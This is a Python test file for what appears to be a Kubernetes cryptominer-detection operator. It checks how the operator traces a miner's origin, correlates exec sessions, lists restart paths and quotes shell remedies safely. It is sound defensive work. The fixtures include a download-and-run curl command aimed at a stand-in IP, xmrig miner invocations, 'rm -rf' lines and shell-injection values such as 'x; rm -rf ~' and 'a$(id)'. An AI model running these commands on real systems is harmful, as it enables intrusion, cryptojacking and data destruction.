"""The investigation assembled from what the investigator gathered: pure, over realistic objects."""

from __future__ import annotations

from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from minerguard.api.detection import Evidence, MinerDetection
from minerguard.api.investigation import (
    CREATED_BY_ANNOTATION,
    MAX_LIST,
    Actor,
    Basis,
    CheckState,
    Confidence,
    EntryPoint,
    ExecSession,
    HistoryStep,
    ImageProvenance,
    InvestigationState,
    LinkState,
    Origin,
    Severity,
    Via,
)
from minerguard_operator.decide import investigation as inv
from minerguard_operator.decide.investigation import Facts

DIGEST = "sha256:" + "ab" * 32
EVIL = "docker.io/evil/x"
OURS = "registry.corp.example/shop/web"
CREATED = "2026-11-30T09:00:00Z"
POD_CREATED = "2026-11-30T10:00:05Z"
EXEC_AT = "2026-11-30T10:05:00Z"
ROOT_AT = "2026-11-30T10:05:01Z"
OBSERVED = "2026-11-30T10:06:00Z"
ACTED = "2026-11-30T10:06:02Z"
EXEC_CMD = ["sh", "-c", "curl -so /tmp/k http://203.0.113.9/k && /tmp/k"]
CONTROLLER = "system:serviceaccount:kube-system:replicaset-controller"


def stamp(username: str, time: str = CREATED) -> str:
    return Actor(username=username, groups=["dev"], operation="CREATE", time=time).stamp()


def deployment(
    *, replicas: int = 3, annotations: dict[str, str] | None = None, **extra: Any
) -> dict[str, Any]:
    return {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {
            "name": "miner",
            "namespace": "web",
            "uid": "d-1",
            "creationTimestamp": CREATED,
            "annotations": annotations if annotations is not None else {},
            **extra,
        },
        "spec": {"replicas": replicas, "template": {"spec": {"containers": []}}},
    }


def replicaset(replicas: int = 3) -> dict[str, Any]:
    return {
        "apiVersion": "apps/v1",
        "kind": "ReplicaSet",
        "metadata": {"name": "miner-5d4f", "namespace": "web", "uid": "rs-1"},
        "spec": {"replicas": replicas},
    }


def pod(**metadata: Any) -> dict[str, Any]:
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {
            "name": "miner-5d4f-abcde",
            "namespace": "web",
            "uid": "p-1",
            "creationTimestamp": POD_CREATED,
            **metadata,
        },
        "spec": {"serviceAccountName": "builder", "containers": [{"name": "app", "image": EVIL}]},
    }


def detection(
    evidence: dict[str, Any] | None = None, status: dict[str, Any] | None = None, **spec: Any
) -> MinerDetection:
    base: dict[str, Any] = {
        "layer": "Exec",
        "score": 3,
        "podName": "miner-5d4f-abcde",
        "podUID": "p-1",
        "container": "app",
        "image": f"{EVIL}:latest",
        "imageDigest": DIGEST,
        "observedAt": OBSERVED,
        "evidence": evidence or {"pid": 42, "executable": "/usr/bin/xmrig"},
    }
    body: dict[str, Any] = {
        "metadata": {"name": "md-1", "namespace": "web", "creationTimestamp": OBSERVED},
        "spec": {**base, **spec},
    }
    if status is not None:
        body["status"] = status
    return MinerDetection.model_validate(body)


ACTED_STATUS = {
    "phase": "Acted",
    "actedAt": ACTED,
    "actionsTaken": ["DeletePod: grace 0s", "StopOwner: Deployment/miner scaled 3->0"],
}


def foreign(**fields: Any) -> ImageProvenance:
    base: dict[str, Any] = {
        "image": f"{EVIL}:latest",
        "registry": "docker.io",
        "repository": "evil/x",
        "digest": DIGEST,
        "trusted": False,
        "basis": [Basis.POLICY],
        "confidence": Confidence.CERTAIN,
    }
    return ImageProvenance(**{**base, **fields})


def ours(**fields: Any) -> ImageProvenance:
    base: dict[str, Any] = {
        "image": f"{OURS}:1.4",
        "registry": "registry.corp.example",
        "repository": "shop/web",
        "digest": DIGEST,
        "trusted": True,
        "trusted_by": "registry.corp.example/",
        "created": CREATED,
        "history": [
            HistoryStep(created="2026-11-01T00:00:00Z", created_by="COPY app /app"),
            HistoryStep(
                created=CREATED, created_by="ADD http://203.0.113.9/k /usr/bin/xmrig", suspect=True
            ),
        ],
        "tags": ["1.4", "latest"],
        "tags_checked": 12,
        "tags_complete": True,
        "basis": [Basis.REGISTRY, Basis.POLICY],
        "confidence": Confidence.CERTAIN,
    }
    return ImageProvenance(**{**base, **fields})


def facts(det: MinerDetection | None = None, **fields: Any) -> Facts:
    return Facts(
        detection=det or detection(),
        started_at="2026-11-30T10:06:03Z",
        now="2026-11-30T10:06:04Z",
        **fields,
    )


# -- where the code came from -------------------------------------------------------------------


def test_a_foreign_image_started_by_a_deployment_alice_applied_is_named_with_her() -> None:
    owners = [
        replicaset(0),
        deployment(replicas=0, annotations={CREATED_BY_ANNOTATION: stamp("alice")}),
    ]
    found = inv.investigate(
        facts(
            detection(
                evidence={
                    "pid": 7,
                    "executable": "/usr/bin/xmrig",
                    "entry": "Init",
                    "executableOrigin": "Image",
                },
                status=ACTED_STATUS,
            ),
            pod=None,
            owners=owners,
            image=foreign(),
            quarantined=True,
            trust_stamps=True,
            entry_points=[
                EntryPoint(
                    kind="Service",
                    name="web/lb",
                    detail="LoadBalancer",
                    remedy="x",
                    severity=Severity.HIGH,
                )
            ],
        )
    )
    assert (found.origin, found.via) == (Origin.FOREIGN, Via.APPLY)
    created = found.provenance.workload_created_by
    assert created is not None
    assert (created.username, created.basis) == ("alice", Basis.STAMP)
    assert "foreign image" in found.summary
    assert "alice" in found.summary
    assert "Deployment web/miner" in found.summary
    assert "LoadBalancer" in found.summary or "web/lb" in found.summary
    assert found.state is InvestigationState.COMPLETE, found.unknowns


def test_our_image_with_a_suspect_history_step_is_ours_and_names_the_step() -> None:
    found = inv.investigate(
        facts(
            detection(
                image=f"{OURS}:1.4",
                evidence={"pid": 9, "entry": "Init", "executableOrigin": "Image"},
            ),
            image=ours(),
        )
    )
    assert found.origin is Origin.OURS
    assert found.image is not None
    assert found.image.trusted is True
    assert "ADD http://203.0.113.9/k" in found.summary


def test_a_long_history_is_cut_but_keeps_the_suspect_step() -> None:
    steps = [HistoryStep(created_by=f"RUN step {i}") for i in range(120)]
    steps[3] = HistoryStep(created_by="ADD miner /usr/bin/xmrig", suspect=True)
    image, notes = inv.image_part(facts(image=ours(history=steps)))
    assert image is not None
    assert len(image.history) == MAX_LIST
    assert image.history[0].created_by == "ADD miner /usr/bin/xmrig"
    assert image.history[-1].created_by == "RUN step 119"
    assert notes == ["image history: 70 steps not listed"]


def test_an_origin_resting_on_the_registry_alone_is_said() -> None:
    found = inv.investigate(facts(image=foreign()))
    assert found.origin is Origin.FOREIGN
    assert any("registry alone" in u for u in found.unknowns)


def test_a_file_written_after_start_is_runtime_origin_whatever_the_registry() -> None:
    ev = Evidence(executable_origin="WrittenAfterStart")
    assert inv.origin(detection(evidence=ev.to_k8s()), ours()) is Origin.RUNTIME
    ev = Evidence(executable_origin="Downloaded")
    assert inv.origin(detection(evidence=ev.to_k8s()), foreign()) is Origin.RUNTIME


def test_an_admission_detection_judged_code_in_the_image_or_manifest() -> None:
    det = detection(layer="Admission", objectKind="Pod", evidence={"commandLine": "xmrig -o x"})
    assert inv.origin(det, foreign()) is Origin.FOREIGN
    assert inv.origin(det, ours()) is Origin.OURS
    assert inv.origin(det, None) is Origin.UNKNOWN
    assert inv.method(det).via is Via.APPLY
    assert inv.method(det).basis == (Basis.ADMISSION,)


# -- how it was started --------------------------------------------------------------------------


def test_an_exec_admission_detection_is_via_exec_with_the_kind_the_webhook_writes() -> None:
    for kind in ("PodExecOptions", "PodAttachOptions"):
        det = detection(layer="Admission", objectKind=kind, evidence={"commandLine": "xmrig"})
        found = inv.method(det)
        assert (found.via, found.confidence) == (Via.EXEC, Confidence.CERTAIN)


def test_a_downloaded_executable_not_from_exec_is_a_dropper_naming_the_fetcher() -> None:
    det = detection(
        evidence={
            "entry": "Init",
            "executableOrigin": "Downloaded",
            "downloadedBy": "curl -so /tmp/k http://203.0.113.9/k",
        }
    )
    found = inv.method(det)
    assert (found.via, found.dropper) == (Via.DROPPER, "curl -so /tmp/k http://203.0.113.9/k")
    assert found.basis == (Basis.AGENT,)
    written = detection(
        evidence={"entry": "Init", "executableOrigin": "WrittenAfterStart", "downloadedBy": "wget"}
    )
    assert inv.method(written).via is Via.DROPPER
    result = inv.investigate(facts(det, image=ours()))
    assert (result.origin, result.via, result.provenance.dropper) == (
        Origin.RUNTIME,
        Via.DROPPER,
        "curl -so /tmp/k http://203.0.113.9/k",
    )


def test_code_written_at_runtime_is_not_brought_back_by_the_images_tags() -> None:
    det = detection(evidence={"entry": "Init", "executableOrigin": "Downloaded"})
    found = inv.investigate(facts(det, image=ours()))
    assert not [p for p in found.restart_paths if p.relation == "registry-tag"]
    tags = next(c for c in found.checklist if c.item == "Registry tags removed")
    assert tags.state is CheckState.NOT_APPLICABLE


def test_an_exec_entry_beats_a_download_inside_the_session() -> None:
    det = detection(
        evidence={"entry": "Exec", "executableOrigin": "Downloaded", "downloadedBy": "curl"}
    )
    assert inv.method(det).via is Via.EXEC


def test_nothing_told_is_unknown_and_said() -> None:
    found = inv.investigate(facts(detection(evidence={"pid": 1})))
    assert (found.origin, found.via) == (Origin.UNKNOWN, Via.UNKNOWN)
    assert found.state is InvestigationState.PARTIAL
    assert found.unknowns


# -- exec sessions -------------------------------------------------------------------------------

LINEAGE_EVIDENCE = {
    "pid": 80,
    "executable": "/tmp/k",
    "entry": "Exec",
    "executableOrigin": "Downloaded",
    "lineage": [
        {
            "pid": 79,
            "executable": "/bin/sh",
            "commandLine": " ".join(EXEC_CMD),
            "startedAt": ROOT_AT,
        },
    ],
}


def session(user: str, at: str, command: list[str], **extra: Any) -> ExecSession:
    return ExecSession(
        username=user, groups=["dev"], time=at, container="app", command=command, **extra
    )


def test_the_exec_session_whose_command_and_time_match_is_certain() -> None:
    sessions = [
        session("carol", "2026-11-30T10:04:59Z", ["bash"]),  # nearer, other command
        session("bob", EXEC_AT, EXEC_CMD),
        session("dave", "2026-11-30T10:05:30Z", EXEC_CMD),  # after the process started
    ]
    found, confidence = inv.correlate(sessions, Evidence.model_validate(LINEAGE_EVIDENCE), "app")
    assert found is not None
    assert found.username == "bob"
    assert confidence is Confidence.CERTAIN


def test_an_exec_session_by_time_only_is_likely_and_the_nearest_earlier_wins() -> None:
    sessions = [
        session("erin", "2026-11-30T10:01:00Z", ["top"]),
        session("carol", "2026-11-30T10:04:00Z", ["bash"]),
    ]
    found, confidence = inv.correlate(sessions, Evidence.model_validate(LINEAGE_EVIDENCE), "app")
    assert found is not None
    assert found.username == "carol"
    assert confidence is Confidence.LIKELY


def test_a_basename_of_argv0_matches_a_full_path_root() -> None:
    ev = {
        **LINEAGE_EVIDENCE,
        "lineage": [{"pid": 79, "commandLine": "/bin/bash -i", "startedAt": ROOT_AT}],
    }
    found, confidence = inv.correlate(
        [session("bob", EXEC_AT, ["bash"])], Evidence.model_validate(ev), "app"
    )
    assert found is not None
    assert confidence is Confidence.CERTAIN


def test_sessions_outside_the_window_in_another_container_or_denied_do_not_count() -> None:
    ev = Evidence.model_validate(LINEAGE_EVIDENCE)
    too_old = session("old", "2026-11-30T09:40:00Z", EXEC_CMD)
    other = ExecSession(username="x", time=EXEC_AT, container="sidecar", command=EXEC_CMD)
    denied = session("mallory", EXEC_AT, EXEC_CMD, allowed=False)
    assert inv.correlate([too_old, other, denied], ev, "app") == (None, Confidence.UNKNOWN)
    skewed = session("bob", "2026-11-30T10:05:02Z", EXEC_CMD)  # node clock 1 s behind
    assert inv.correlate([skewed], ev, "app")[0] == skewed


def test_the_correlated_session_names_the_user_in_provenance_and_timeline() -> None:
    det = detection(evidence=LINEAGE_EVIDENCE, status=ACTED_STATUS)
    found = inv.investigate(
        facts(
            det,
            pod=pod(),
            image=ours(),
            exec_sessions=[session("bob", EXEC_AT, EXEC_CMD)],
            trust_exec_sessions=True,
        )
    )
    assert found.via is Via.EXEC
    assert found.provenance.exec_session is not None
    assert found.provenance.exec_session.username == "bob"
    assert Basis.EXEC_TRACE in found.provenance.basis
    assert found.provenance.confidence is Confidence.CERTAIN
    assert "bob" in found.summary
    kinds = [entry.kind for entry in found.timeline]
    assert kinds == [
        "ImageBuilt",
        "Admission",
        "ExecSession",
        "ProcessStart",
        "Detection",
        "Action",
        "Action",
    ]
    rotate = next(c for c in found.checklist if c.item == "Credentials rotated")
    assert rotate.state is CheckState.OPEN
    assert rotate.detail
    assert "bob" in rotate.detail


def test_exec_with_no_session_event_says_why_it_may_be_missing() -> None:
    found = inv.investigate(facts(detection(evidence=LINEAGE_EVIDENCE), image=ours()))
    assert found.via is Via.EXEC
    assert found.provenance.exec_session is None
    assert inv.NO_EXEC_SESSION in found.unknowns
    assert found.state is InvestigationState.PARTIAL


def exec_facts(*sessions: ExecSession, **fields: Any) -> Facts:
    det = detection(evidence=LINEAGE_EVIDENCE, status=ACTED_STATUS)
    return facts(det, pod=pod(), image=ours(), exec_sessions=list(sessions), **fields)


def test_a_forged_exec_session_event_on_an_unguarded_cluster_is_likely_not_certain() -> None:
    # Anyone who may create Events in the namespace can write this one to blame alice.
    forged = session("alice", EXEC_AT, EXEC_CMD, authenticated=True)
    found = inv.investigate(exec_facts(forged))
    assert found.provenance.exec_session is not None
    assert found.provenance.exec_session.username == "alice"
    assert found.provenance.confidence is Confidence.LIKELY
    assert inv.UNGUARDED_SESSIONS in found.unknowns
    assert found.state is InvestigationState.PARTIAL


def test_an_exec_session_whose_review_was_not_authenticated_is_likely() -> None:
    claimed = session("alice", EXEC_AT, EXEC_CMD, authenticated=False)
    found = inv.investigate(exec_facts(claimed, trust_exec_sessions=True))
    assert found.provenance.confidence is Confidence.LIKELY
    assert inv.UNAUTHENTICATED_SESSION in found.unknowns
    assert inv.UNGUARDED_SESSIONS not in found.unknowns


def test_a_guarded_authenticated_exec_session_is_certain() -> None:
    for authenticated in (True, None):  # None: a webhook that did not record it
        vouched = session("bob", EXEC_AT, EXEC_CMD, authenticated=authenticated)
        found = inv.investigate(exec_facts(vouched, trust_exec_sessions=True))
        assert found.provenance.confidence is Confidence.CERTAIN
        assert not [u for u in found.unknowns if "exec" in u]


def test_a_flood_of_decoy_sessions_matching_the_command_takes_the_nearest_and_says_so() -> None:
    decoys = [session(f"decoy{i}", f"2026-11-30T10:0{i}:00Z", EXEC_CMD) for i in range(5)]
    nearest = session("bob", EXEC_AT, EXEC_CMD)
    found = inv.investigate(exec_facts(*decoys, nearest, trust_exec_sessions=True))
    assert found.provenance.exec_session is not None
    assert found.provenance.exec_session.username == "bob"
    assert found.provenance.confidence is Confidence.LIKELY  # other users matched too
    rivals = [u for u in found.unknowns if "6 exec sessions matched" in u]
    assert rivals, found.unknowns
    assert "decoy4" in rivals[0]


def test_repeated_sessions_of_one_user_matching_the_command_stay_certain_but_are_said() -> None:
    again = [session("bob", "2026-11-30T10:03:00Z", EXEC_CMD), session("bob", EXEC_AT, EXEC_CMD)]
    found = inv.investigate(exec_facts(*again, trust_exec_sessions=True))
    assert found.provenance.confidence is Confidence.CERTAIN
    assert any("2 exec sessions matched" in u for u in found.unknowns)


def test_a_forged_event_cannot_rewrite_what_an_exec_request_ran() -> None:
    det = detection(
        layer="Admission",
        objectKind="PodExecOptions",
        requestingUser="bob",
        requesterAuthenticated=True,
        evidence={"commandLine": "xmrig -o pool:3333"},
    )
    forged = session("bob", OBSERVED, ["rm", "-rf", "/data"], event="forged")
    real = session("bob", OBSERVED, ["xmrig", "-o", "pool:3333"], event="real", tty=False)
    found = inv.investigate(facts(det, image=foreign(), exec_sessions=[forged]))
    assert found.provenance.exec_session is not None
    assert found.provenance.exec_session.command == ["xmrig", "-o", "pool:3333"]
    assert found.provenance.exec_session.event is None  # the request itself, not the Event
    found = inv.investigate(facts(det, image=foreign(), exec_sessions=[forged, real]))
    assert found.provenance.exec_session is not None
    assert found.provenance.exec_session.event == "real"
    # Guarded, only the webhook writes them: its Event (the command as scrubbed) is taken.
    scrubbed = session("bob", OBSERVED, ["xmrig", "-o", "***"], event="webhook")
    found = inv.investigate(
        facts(det, image=foreign(), exec_sessions=[scrubbed], trust_exec_sessions=True)
    )
    assert found.provenance.exec_session is not None
    assert found.provenance.exec_session.event == "webhook"


def test_stamps_are_not_believed_unless_the_operator_is_told_they_are_guarded() -> None:
    top = deployment(annotations={CREATED_BY_ANNOTATION: stamp("alice")})
    assert Facts(detection=detection(), started_at="", now="").trust_stamps is False
    assert Facts(detection=detection(), started_at="", now="").trust_exec_sessions is False
    found = inv.investigate(facts(owners=[top], image=foreign()))
    assert inv.UNTRUSTED_STAMP in found.unknowns
    assert "alice" not in found.summary


def test_an_exec_admission_detection_takes_the_requester_as_the_session() -> None:
    det = detection(
        layer="Admission",
        objectKind="PodExecOptions",
        requestingUser="bob",
        requestingGroups=["dev"],
        requesterAuthenticated=True,
        evidence={"commandLine": "xmrig -o pool:3333"},
    )
    found = inv.investigate(facts(det, image=foreign()))
    assert found.via is Via.EXEC
    assert found.provenance.exec_session is not None
    assert found.provenance.exec_session.username == "bob"
    assert found.provenance.exec_session.command == ["xmrig", "-o", "pool:3333"]
    assert found.summary.startswith("A kubectl exec by bob into pod web/miner-5d4f-abcde")


# -- who -----------------------------------------------------------------------------------------


def managed(manager: str, operation: str, time: str, **extra: Any) -> dict[str, Any]:
    return {
        "manager": manager,
        "operation": operation,
        "time": time,
        "apiVersion": "apps/v1",
        "fieldsType": "FieldsV1",
        "fieldsV1": {},
        **extra,
    }


def test_without_a_stamp_managed_fields_name_the_manager_not_the_user() -> None:
    top = deployment(
        managedFields=[
            managed(
                "kube-controller-manager", "Update", "2026-11-30T09:00:02Z", subresource="status"
            ),
            managed("helm", "Update", "2026-11-30T09:30:00Z"),
            managed("kubectl-client-side-apply", "Update", CREATED),
            managed("minerguard", "Update", "2026-11-30T10:06:02Z"),  # the response itself
        ]
    )
    created = inv.creator(top)
    assert created is not None
    assert (created.manager, created.operation, created.time, created.basis, created.username) == (
        "kubectl-client-side-apply",
        "Update",
        CREATED,
        Basis.MANAGED_FIELDS,
        None,
    )
    changed = inv.last_changer(top, before=OBSERVED)
    assert changed is not None
    assert changed.manager == "helm"
    found = inv.investigate(facts(owners=[top], image=foreign()))
    assert inv.MANAGED_FIELDS_NOTE in found.unknowns
    assert found.provenance.confidence is not Confidence.CERTAIN


def test_the_pod_creator_comes_from_the_admission_request_when_not_stamped() -> None:
    det = detection(
        layer="Admission",
        objectKind="Pod",
        requestingUser="alice",
        requesterAuthenticated=False,
        evidence={"commandLine": "xmrig"},
    )
    found = inv.investigate(facts(det, image=foreign()))
    created = found.provenance.pod_created_by
    assert created is not None
    assert (created.username, created.basis) == ("alice", Basis.ADMISSION)
    assert any("not authenticated" in u for u in found.unknowns)
    assert found.provenance.confidence is Confidence.LIKELY


def test_an_admission_detection_of_a_stamped_workload_names_the_requester_as_its_changer() -> None:
    det = detection(
        layer="Admission",
        objectKind="Deployment",
        podName="miner",
        requestingUser="mallory",
        requesterAuthenticated=True,
        evidence={"commandLine": "xmrig"},
    )
    top = deployment(annotations={CREATED_BY_ANNOTATION: stamp("alice")})
    found = inv.investigate(facts(det, owners=[top], image=foreign(), trust_stamps=True))
    created, changed = found.provenance.workload_created_by, found.provenance.workload_changed_by
    assert created is not None
    assert changed is not None
    assert (created.username, changed.username, changed.basis) == (
        "alice",
        "mallory",
        Basis.ADMISSION,
    )
    assert found.provenance.confidence is Confidence.CERTAIN


def test_a_controller_creating_the_pod_is_not_the_human_named() -> None:
    top = deployment(annotations={CREATED_BY_ANNOTATION: stamp("alice")})
    p = pod(annotations={CREATED_BY_ANNOTATION: stamp(CONTROLLER, POD_CREATED)})
    found = inv.investigate(
        facts(pod=p, owners=[replicaset(), top], image=foreign(), trust_stamps=True)
    )
    assert found.provenance.pod_created_by is not None
    assert found.provenance.pod_created_by.username == CONTROLLER
    assert "alice" in found.summary
    assert CONTROLLER not in found.summary


def test_a_stamp_is_ignored_when_the_stamping_webhook_is_off() -> None:
    framed = deployment(
        annotations={CREATED_BY_ANNOTATION: stamp("alice")},
        managedFields=[managed("kubectl-create", "Update", CREATED)],
    )
    found = inv.investigate(facts(owners=[framed], image=foreign(), trust_stamps=False))
    created = found.provenance.workload_created_by
    assert created is not None
    assert (created.username, created.manager) == (None, "kubectl-create")
    assert inv.UNTRUSTED_STAMP in found.unknowns
    assert "alice" not in found.summary


def test_a_process_exec_started_directly_matches_its_session_by_command_only() -> None:
    ev = Evidence.model_validate(
        {"pid": 80, "commandLine": "/usr/bin/xmrig -o pool:3333", "entry": "Exec"}
    )
    found, confidence = inv.correlate(
        [session("bob", EXEC_AT, ["xmrig", "-o", "pool:3333"])], ev, "app"
    )
    assert found is not None
    assert confidence is Confidence.LIKELY


# -- what restarts it ----------------------------------------------------------------------------


def test_restart_paths_after_stop_owner_show_each_link_stopped_with_the_response() -> None:
    det = detection(status=ACTED_STATUS)
    cron = {
        "kind": "CronJob",
        "metadata": {"name": "nightly", "namespace": "web"},
        "spec": {"suspend": False},
    }
    twin = {"kind": "Pod", "metadata": {"name": "copy-1", "namespace": "other"}}
    going = {
        "kind": "Pod",
        "metadata": {"name": "copy-2", "namespace": "other", "deletionTimestamp": ACTED},
    }
    paths, _ = inv.restart_paths(
        facts(
            det,
            owners=[replicaset(0), deployment(replicas=0)],
            cron_jobs=[cron],
            same_digest_pods=[twin, going],
            image=ours(),
        )
    )
    by_name = {(p.relation, p.name): p for p in paths}
    top = by_name[("owner", "miner")]
    assert (top.kind, top.namespace, top.state) == ("Deployment", "web", LinkState.STOPPED)
    assert top.response == "Deployment/miner scaled 3->0"
    assert by_name[("owner", "miner-5d4f")].state is LinkState.STOPPED
    assert by_name[("cronjob", "nightly")].state is LinkState.ACTIVE
    assert by_name[("same-digest", "copy-1")].remedy == "kubectl delete pod -n other copy-1"
    assert by_name[("same-digest", "copy-1")].state is LinkState.ACTIVE
    assert by_name[("same-digest", "copy-2")].state is LinkState.GONE
    tag = by_name[("registry-tag", f"{OURS}:latest")]
    assert (tag.kind, tag.remedy) == ("RegistryTag", f"regctl tag delete {OURS}:latest")


def test_link_states_follow_how_the_operator_stops_each_kind() -> None:
    def obj(kind: str, spec: dict[str, Any], **meta: Any) -> dict[str, Any]:
        return {"kind": kind, "metadata": {"name": "n", **meta}, "spec": spec}

    assert inv.link_state(obj("StatefulSet", {"replicas": 0})) is LinkState.STOPPED
    assert inv.link_state(obj("StatefulSet", {})) is LinkState.ACTIVE  # default 1 replica
    assert inv.link_state(obj("CronJob", {"suspend": True})) is LinkState.STOPPED
    assert inv.link_state(obj("Job", {"parallelism": 0})) is LinkState.STOPPED
    assert inv.link_state(obj("Job", {"suspend": True})) is LinkState.STOPPED
    assert inv.link_state(obj("Job", {}, deletionTimestamp=ACTED)) is LinkState.GONE
    stopped_ds = {"template": {"spec": {"nodeSelector": {"minerguard.io/stopped": "true"}}}}
    assert inv.link_state(obj("DaemonSet", stopped_ds)) is LinkState.STOPPED
    assert inv.link_state(obj("DaemonSet", {"template": {"spec": {}}})) is LinkState.ACTIVE
    assert inv.link_state(obj("Rollout", {"replicas": 0})) is LinkState.UNKNOWN


def test_a_remedy_never_lets_a_hostile_name_run_in_the_responders_shell() -> None:
    twin = {"kind": "Pod", "metadata": {"name": "x; rm -rf ~", "namespace": "a$(id)"}}
    image = ours(tags=["v1`reboot`"])
    paths, _ = inv.restart_paths(facts(same_digest_pods=[twin], image=image))
    remedies = {p.relation: p.remedy for p in paths}
    assert remedies["same-digest"] == "kubectl delete pod -n 'a$(id)' 'x; rm -rf ~'"
    assert remedies["registry-tag"] == f"regctl tag delete '{OURS}:v1`reboot`'"


def test_a_cronjobs_stopped_job_links_carry_their_own_responses() -> None:
    job = {
        "kind": "Job",
        "metadata": {"name": "nightly-29", "namespace": "web"},
        "spec": {"suspend": True},
    }
    cron = {
        "kind": "CronJob",
        "metadata": {"name": "nightly", "namespace": "web"},
        "spec": {"suspend": True},
    }
    status = {
        "actedAt": ACTED,
        "actionsTaken": ["StopOwner: CronJob/nightly suspended, Job/nightly-29 suspended"],
    }
    paths, _ = inv.restart_paths(
        facts(detection(status=status), owners=[job, cron], cron_jobs=[cron])
    )
    assert [(p.kind, p.state, p.response) for p in paths] == [
        ("Job", LinkState.STOPPED, "Job/nightly-29 suspended"),
        ("CronJob", LinkState.STOPPED, "CronJob/nightly suspended"),
    ]


def test_a_failed_stop_is_said_on_the_top_owner() -> None:
    status = {"actedAt": ACTED, "actionsTaken": ["StopOwner: failed"]}
    paths, _ = inv.restart_paths(
        facts(detection(status=status), owners=[replicaset(), deployment()])
    )
    assert paths[0].response is None
    assert paths[1].response is not None
    assert paths[1].response.startswith("StopOwner failed")
    assert paths[1].state is LinkState.ACTIVE


def test_an_active_owner_gets_the_command_that_stops_it() -> None:
    paths, _ = inv.restart_paths(facts(owners=[replicaset(), deployment()]))
    assert paths[-1].remedy == "kubectl scale -n web deployment/miner --replicas=0"
    ds = {
        "kind": "DaemonSet",
        "metadata": {"name": "d", "namespace": "kube-system"},
        "spec": {"template": {"spec": {}}},
    }
    paths, _ = inv.restart_paths(facts(owners=[ds]))
    assert paths[0].remedy == (
        "kubectl patch -n kube-system daemonset/d -p "
        '\'{"spec":{"template":{"spec":{"nodeSelector":{"minerguard.io/stopped":"true"}}}}}\''
    )


def test_restart_paths_are_bounded_and_the_cut_is_said() -> None:
    many = [{"kind": "Pod", "metadata": {"name": f"p{i}", "namespace": "n"}} for i in range(80)]
    paths, unknowns = inv.restart_paths(facts(same_digest_pods=many))
    assert len(paths) == MAX_LIST
    assert any("30 more" in u for u in unknowns)


def test_an_incomplete_tag_listing_is_said() -> None:
    _, unknowns = inv.restart_paths(facts(image=ours(tags_complete=False)))
    assert any("tag" in u and "12" in u for u in unknowns)


# -- checklist -----------------------------------------------------------------------------------


def test_checklist_states_after_a_full_response() -> None:
    det = detection(evidence={"entry": "Init", "executableOrigin": "Image"}, status=ACTED_STATUS)
    twin = {"kind": "Pod", "metadata": {"name": "copy-1", "namespace": "other"}}
    found = inv.investigate(
        facts(
            det,
            pod=None,
            owners=[replicaset(0), deployment(replicas=0)],
            same_digest_pods=[twin],
            image=ours(),
            quarantined=True,
            entry_points=[
                EntryPoint(
                    kind="ServiceAccount",
                    name="web/builder",
                    detail="create pods",
                    remedy="x",
                    severity=Severity.HIGH,
                )
            ],
        )
    )
    states = {c.item: c for c in found.checklist}
    assert states["Instances removed"].state is CheckState.OPEN  # a twin still runs
    assert "other/copy-1" in (states["Instances removed"].detail or "")
    assert states["Restart paths stopped"].state is CheckState.DONE
    assert states["Image quarantined"].state is CheckState.DONE
    assert states["Registry tags removed"].state is CheckState.OPEN
    assert "2" in (states["Registry tags removed"].detail or "")
    assert states["Credentials rotated"].state is CheckState.OPEN
    assert states["Entry points closed"].state is CheckState.OPEN
    assert list(states) == [
        "Instances removed",
        "Restart paths stopped",
        "Image quarantined",
        "Registry tags removed",
        "Credentials rotated",
        "Entry points closed",
    ]


def test_checklist_for_a_foreign_image_still_running() -> None:
    found = inv.investigate(
        facts(pod=pod(), owners=[replicaset(), deployment()], image=foreign(), quarantined=False)
    )
    states = {c.item: c.state for c in found.checklist}
    assert states["Instances removed"] is CheckState.OPEN
    assert states["Restart paths stopped"] is CheckState.OPEN
    assert states["Image quarantined"] is CheckState.OPEN
    assert states["Registry tags removed"] is CheckState.NOT_APPLICABLE
    assert states["Entry points closed"] is CheckState.DONE
    rotate = next(c for c in found.checklist if c.item == "Credentials rotated")
    assert rotate.detail is not None
    assert "system:serviceaccount:web:builder" in rotate.detail


# -- timeline ------------------------------------------------------------------------------------


def test_timeline_is_in_order_deduplicated_and_skips_unreadable_times() -> None:
    det = detection(
        evidence=LINEAGE_EVIDENCE,
        status={**ACTED_STATUS, "actionsTaken": ["DeletePod: grace 0s"] * 2},
    )
    sessions = [session("bob", EXEC_AT, EXEC_CMD), session("eve", "yesterday", ["ls"])]
    entries, unknowns = inv.timeline(facts(det, pod=pod(), exec_sessions=sessions, image=ours()))
    times = [e.time for e in entries]
    assert times == sorted(times)
    assert [e.kind for e in entries].count("Action") == 1
    assert any("yesterday" in u or "could not be read" in u for u in unknowns)
    admission = next(e for e in entries if e.kind == "Admission")
    assert admission.time == POD_CREATED


def test_a_busy_pods_exec_sessions_do_not_crowd_out_the_detection_and_response() -> None:
    busy = [session("probe", f"2026-11-30T10:0{i // 60}:{i % 60:02d}Z", ["ls"]) for i in range(200)]
    det = detection(evidence=LINEAGE_EVIDENCE, status=ACTED_STATUS)
    entries, _ = inv.timeline(facts(det, exec_sessions=[*busy, session("bob", EXEC_AT, EXEC_CMD)]))
    kinds = [e.kind for e in entries]
    assert kinds.count("ExecSession") <= inv.MAX_SESSIONS + 1
    assert kinds[-3:] == ["Detection", "Action", "Action"]
    assert any(e.actor == "bob" for e in entries if e.kind == "ExecSession")


# -- hostile input -------------------------------------------------------------------------------


def test_junk_in_every_object_does_not_crash_and_long_strings_are_cut() -> None:
    huge = "A" * 100_000
    junk_owner: dict[str, Any] = {
        "metadata": {"managedFields": "oops", "annotations": [1]},
        "spec": "x",
    }
    found = inv.investigate(
        facts(
            detection(
                evidence={
                    "lineage": [{"pid": 1, "commandLine": huge, "startedAt": huge}],
                    "entry": "Exec",
                    "downloadedBy": huge,
                }
            ),
            pod={
                "metadata": {"name": huge, "annotations": {CREATED_BY_ANNOTATION: "{nope"}},
                "spec": None,
            },
            owners=[junk_owner, {"kind": 5}, {"metadata": {"managedFields": [None, {"time": 3}]}}],
            cron_jobs=["nope", {"spec": {"suspend": "yes"}}],
            same_digest_pods=[{"metadata": {"name": huge, "namespace": huge}}],
            image=ours(tags=[huge]),
            unknowns=[huge],
        )
    )
    assert len(found.summary) <= inv.MAX_SUMMARY
    assert all(len(u) <= inv.MAX_LONG for u in found.unknowns)
    assert all(len(p.name) <= inv.MAX_LONG for p in found.restart_paths)
    assert all(len(p.remedy or "") <= 2 * inv.MAX_LONG + 64 for p in found.restart_paths)


